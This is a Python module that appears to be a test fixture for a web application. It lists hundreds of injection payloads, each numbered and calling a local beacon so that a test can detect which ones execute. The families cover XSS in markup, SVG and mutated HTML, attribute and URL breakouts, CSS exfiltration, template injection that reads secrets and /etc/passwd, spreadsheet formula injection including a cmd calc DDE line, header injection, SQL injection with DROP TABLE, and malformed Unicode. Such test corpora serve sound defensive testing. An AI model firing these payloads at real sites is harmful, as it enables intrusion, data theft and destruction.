# ruff: noqa: E501 -- a table
"""What somebody types who wants to be more than read: each calls the beacon with its number, in every way there is."""

from __future__ import annotations

# {u} is the address of the beacon with the payload's number: //127.0.0.1:PORT/N
MARKUP = (
    "<script src={u}></script>", "<ScRiPt src={u}></sCrIpT>", "<script/src={u}>", "<script>fetch('{u}')</script>",
    "\"><script src={u}></script>", "'><script src={u}></script>", "</script><script src={u}></script>",
    "</textarea><script src={u}></script>", "</title><script src={u}></script>", "</style><script src={u}></script>",
    "--><script src={u}></script>", "]]><script src={u}></script>", "</option></select><script src={u}></script>",
    "<script type=module src={u}></script>", "<script async src={u}></script>", "<script>import('{u}')</script>",
    "<script>new Image().src='{u}'</script>", "<script>navigator.sendBeacon('{u}')</script>", "<script>location='{u}'</script>",
    "<<script src={u}></script>", "<scr<script>ipt src={u}></script>", "<script\n src={u}></script>", "<script\t src={u}>",
    "<img src={u}>", "<img src=x onerror=fetch('{u}')>", "<img/src=x/onerror=fetch('{u}')>", "<img srcset={u}>", "<img src='{u}'",
    "\"><img src={u}>", "'><img src={u}>", "<img src=x onerror=\"this.src='{u}'\">", "<IMG SRC={u}>", "<image src={u}>",
    "<picture><source srcset={u}><img></picture>", "<img src=\"data:x\" onerror=fetch(`{u}`)>", "<img dynsrc={u}>", "<img lowsrc={u}>",
    "<img src=x:x onerror=import('{u}')>", "<body onload=fetch('{u}')>", "<body background={u}>", "<table background={u}><td>x",
    "<iframe src={u}></iframe>", "<iframe srcdoc=\"<script src={u}></script>\">", "<iframe onload=fetch('{u}')>", "<frameset><frame src={u}>",
    "<embed src={u}>", "<object data={u}></object>", "<object><param name=movie value={u}></object>", "<applet code={u}>", "<portal src={u}>",
    "<video src={u} autoplay>", "<video poster={u}>", "<video><source src={u} onerror=fetch('{u}')></video>", "<audio src={u} autoplay>",
    "<video><track default src={u}></video>", "<input type=image src={u}>", "<input autofocus onfocus=fetch('{u}')>", "<bgsound src={u}>",
    "<select autofocus onfocus=fetch('{u}')>", "<textarea autofocus onfocus=fetch('{u}')>", "<button autofocus onfocus=fetch('{u}')>",
    "<details open ontoggle=fetch('{u}')>", "<marquee onstart=fetch('{u}')>x", "<a autofocus tabindex=1 onfocus=fetch('{u}') href=#>x",
    "<style onload=fetch('{u}')></style>", "<dialog open onfocusin=fetch('{u}')>", "<x onanimationstart=fetch('{u}') style=animation:spin>",
    "<div onmouseover=fetch('{u}')>x</div>", "<x contenteditable autofocus onfocus=fetch('{u}')>x", "<p onpointerenter=fetch('{u}')>x",
    "<link rel=stylesheet href={u}>", "<link rel=preload as=image href={u}>", "<link rel=prefetch href={u}>", "<link rel=icon href={u}>",
    "<link rel=preconnect href={u}>", "<link rel=dns-prefetch href={u}>", "<link rel=modulepreload href={u}>", "<link rel=manifest href={u}>",
    "<link rel=attachment href={u}>", "<meta http-equiv=refresh content='0;url={u}'>", "<meta http-equiv=refresh content=0;{u}>",
    "\"><meta http-equiv=refresh content='0;{u}'>", "<base href={u}/>", "<base target=_blank href={u}>", "<form action={u}><input autofocus></form>",
    "<form action={u} id=f></form><script>f.submit()</script>", "<button form=f formaction={u}>x", "<input type=submit formaction={u} autofocus>",
    "<isindex action={u}>", "<meta http-equiv=Content-Security-Policy content=\"report-uri {u}\">", "<a ping={u} href=#>x</a>",
    "<div hx-get={u} hx-trigger=load>x</div>", "<div hx-post={u} hx-trigger='load'></div>", "<i data-hx-get={u} data-hx-trigger=load></i>",
    "<div hx-on:load=fetch('{u}')>", "<div hx-on::load=\"fetch('{u}')\">", "<div hx-vals='js:x:fetch(`{u}`)' hx-get=/ hx-trigger=load>",
    "<div data-bs-toggle=tooltip data-bs-html=true title=\"<img src={u}>\">x", "<template><script src={u}></script></template>",
)  # fmt: skip
SVG = (
    "<svg onload=fetch('{u}')>", "<svg><script href={u} /></svg>", "<svg><script xlink:href={u}></script></svg>", "<svg/onload=fetch('{u}')>",
    "<svg><image href={u}></svg>", "<svg><image xlink:href={u} /></svg>", "<svg><use href={u}#a /></svg>", "<svg><feImage href={u} /></svg>",
    "<svg><animate onbegin=fetch('{u}') attributeName=x dur=1s>", "<svg><set attributeName=href to={u} /></svg>", "<svg><a href={u}>x</a></svg>",
    "<svg><style>@import'{u}'</style></svg>", "<svg><foreignObject><iframe src={u}></iframe></foreignObject></svg>", "<svg><rect fill=url({u}#a) />",
    "<svg><discard onbegin=fetch('{u}')>", "<svg><title><script src={u}></script></title></svg>", "<svg><desc><img src={u}></desc></svg>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('{u}')\"/>", "<svg><filter><feImage href='{u}'/></filter></svg>",
    "<!DOCTYPE x [<!ENTITY a SYSTEM '{u}'>]><x>&a;</x>", "<?xml-stylesheet href='{u}'?>", "<x xmlns:xlink=x xlink:href={u} xlink:show=embed>",
)  # fmt: skip
MUTATED = (
    "<noscript><p title=\"</noscript><img src={u}>\">", "<math><mtext><table><mglyph><style><img src={u}>", "<svg></p><style><a id=\"</style><img src={u}>\">",
    "<math><annotation-xml encoding=text/html><img src={u}></annotation-xml></math>", "<xmp><p title=\"</xmp><img src={u}>\">", "<listing>&lt;img src={u}&gt;</listing>",
    "<form><math><mtext></form><form><mglyph><style></math><img src={u}>", "<textarea><p title=\"</textarea><img src={u}>\">", "<style><!--</style><img src={u}>-->",
    "<iframe><p title=\"</iframe><img src={u}>\">", "<title><a title=\"</title><img src={u}>\">", "<plaintext><img src={u}>", "<!--><img src={u}>-->", "<!--!><img src={u}>",
    "<![CDATA[<img src={u}>]]>", "<svg><![CDATA[><image href={u}>]]>", "&lt;img src={u}&gt;", "&#60;img src={u}&#62;", "&#x3c;script src={u}&#x3e;", "&amp;lt;img src={u}&amp;gt;",
    "%3Cimg src={u}%3E", "\\u003cimg src={u}\\u003e", "\\x3cimg src={u}\\x3e", "\uff1cscript src={u}\uff1e", "\u2039script src={u}\u203a", "+ADw-img src={u}+AD4-",
    "<img\u00a0src={u}>", "<img\x0csrc={u}>", "<im\u200bg src={u}>", "\u202e<img src={u}>\u202c", "<img src={u}\u2028>", "<a/\x0b href={u}>x", "<p id=a name=a><a id=a href={u}>",
)  # fmt: skip
ATTRIBUTES = (
    "\" onfocus=fetch('{u}') autofocus x=\"", "' onfocus=fetch('{u}') autofocus x='", "\" src={u} x=\"", "' src={u} x='", "\" style=\"background:url({u})", "x onfocus=fetch('{u}') autofocus",
    "\" onerror=\"fetch('{u}')", "` onfocus=fetch('{u}') autofocus x=`", "\" hx-get=\"{u}\" hx-trigger=\"load", "\" formaction=\"{u}", "\" ping=\"{u}", "\"/onload=fetch('{u}')//",
    "\" autofocus onfocus=\"import('{u}')", "\\\" onfocus=fetch('{u}') x=\\\"", "&quot; onfocus=fetch('{u}') autofocus", "&#34; src={u} x=&#34;", "\" srcset=\"{u}", "\" data-url=\"{u}",
    "';fetch('{u}');'", "\";fetch('{u}');\"", "\\';fetch('{u}');//", "`;fetch('{u}');`", "${{fetch('{u}')}}", "</script>';fetch('{u}')//", "-fetch('{u}')-", "*/fetch('{u}')/*", "\n-->fetch('{u}')",
)  # fmt: skip
ADDRESSES = (
    "javascript:fetch('{u}')", "JaVaScRiPt:fetch('{u}')", "java\tscript:fetch('{u}')", "\x01javascript:fetch('{u}')", "javascript&colon;fetch('{u}')", "javascript&#58;fetch('{u}')",
    "data:text/html,<script src={u}></script>", "data:text/html;base64,PHNjcmlwdD4x", "vbscript:fetch('{u}')", "https:{u}", "{u}", "\\\\{u}", "[x](javascript:fetch('{u}'))", "![x]({u})", "[x]: {u}",
    "<a href=javascript:fetch('{u}')>x</a>", "<a href={u} target=_top>x</a>", "blob:{u}", "view-source:{u}", "feed:javascript:fetch('{u}')", "<javascript:fetch('{u}')>", "file:{u}", "ftp:{u}",
)  # fmt: skip
STYLES = (
    "<style>*{{background:url({u})}}</style>", "<style>@import '{u}';</style>", "<p style=background:url({u})>x", "<p style=\"background-image:url('{u}')\">", "</style><style>@import url({u});</style>",
    "<style>@font-face{{font-family:x;src:url({u})}}*{{font-family:x}}</style>", "<p style=list-style-image:url({u})>", "<p style=\"content:url({u})\">", "<p style=cursor:url({u}),auto>", "}}*{{background:url({u})}}",
    "<style>input[value^=a]{{background:url({u})}}</style>", "expression(fetch('{u}'))", "<p style=\"behavior:url({u})\">", "<p style=-moz-binding:url({u})>", ";background:url({u})", "<style>li{{list-style:url({u})}}</style>",
)  # fmt: skip
TEMPLATES = (
    "{{{{7*7}}}}", "{{{{ settings.SECRET_KEY }}}}", "{{% debug %}}", "{{% include '/etc/passwd' %}}", "{{% load static %}}", "{{0.__class__}}", "{{0.__class__.__init__.__globals__}}", "{{employee}}{{manager}}", "{{x!r:>10}}", "{{",
    "}}}}", "{{%", "%}}", "{{# x #}}", "{{{{ x|safe }}}}", "%(x)s", "%s%n", "${{7*7}}", "#{{7*7}}", "<%= 7*7 %>", "*{{7*7}}", "{{{{constructor.constructor('fetch(`{u}`)')()}}}}", "[[${{7*7}}]]", "@(7*7)", "{{[x]}}", "{{}}{{}}", "{{{{''.__class__}}}}",
)  # fmt: skip
CELLS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1)", "=HYPERLINK(\"{u}\",\"x\")", "=IMPORTXML(\"{u}\",\"//a\")", "=WEBSERVICE(\"{u}\")", "\t=1+1", "\r=1+1", "\n=1+1", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)", "|x", "\"=1+1", "',=1+1",
    "x;=1+1", "x,=1+1", "x\n=1+1", "x\",\"=1+1", "%0A=1+1", " =1+1", "\u200b=1+1", "=DDE(\"a\";\"b\")", "{{=1+1}}",
)  # fmt: skip
LINES = (
    "x\r\nBcc: eve@example.org", "x\nBcc: eve@example.org", "x\rBcc: eve@example.org", "x\r\n\r\n<script src={u}></script>", "x%0d%0aBcc: eve@example.org", "x\u2028Bcc: eve@example.org", "x\x85Bcc: eve@example.org", "x\r\nSet-Cookie: a=b",
    "=?utf-8?q?x=0ABcc:_eve@example.org?=", "x\r\nContent-Type: text/html", "\"<eve@example.org>\"", "x>, <eve@example.org", "x\r\nATTENDEE:mailto:eve@example.org", "x\\nATTENDEE:x", "x\r\nEND:VCALENDAR", "x\x0bBcc: y", "x\x1b[31m", "x\r\n.\r\nQUIT",
)  # fmt: skip
QUERIES = (
    "' OR '1'='1", "'; DROP TABLE plans_plan; --", "\" OR \"\"=\"", "1; SELECT pg_sleep(9)--", "' UNION SELECT NULL,NULL--", "') OR ('a'='a", "1' AND SLEEP(9)#", "x' || (SELECT '') || '", "%' OR 1=1 --", "\\' OR 1=1 --", "admin'--", "0x27", "%", "_", "\\", "%%", "a%b_c\\d", "%27",
)  # fmt: skip
LETTERS = (
    "a\x00b", "a\ud800b", "\udfff", "a\u202egnp.exe", "\u200b\u200c\u200d\ufeff", "\U0001f468\u200d\U0001f469\u200d\U0001f467", "\U0010ffff", "e\u0301\u0301\u0301", "\u0130\u0131\u00df\ufb01", "\u2066x\u2069\u202ax\u202c", "\x7f\x80\x85\x9f", "\ufdfa" * 9, "\u0007\u0008", "\ufffe\uffff",
)  # fmt: skip
FAMILIES: dict[str, tuple[str, ...]] = {
    "markup": MARKUP, "SVG": SVG, "mutated": MUTATED, "attributes": ATTRIBUTES, "addresses": ADDRESSES, "styles": STYLES, "templates": TEMPLATES,
    "cells": CELLS, "lines": LINES, "queries": QUERIES, "letters": LETTERS,
}  # fmt: skip


def payloads(beacon: str) -> list[str]:
    """Every payload, each with its number in the address that it calls. `beacon` is such as 127.0.0.1:4711."""
    every = [words for family in FAMILIES.values() for words in family]
    return [words.format(u=f"//{beacon}/{number}") for number, words in enumerate(every)]
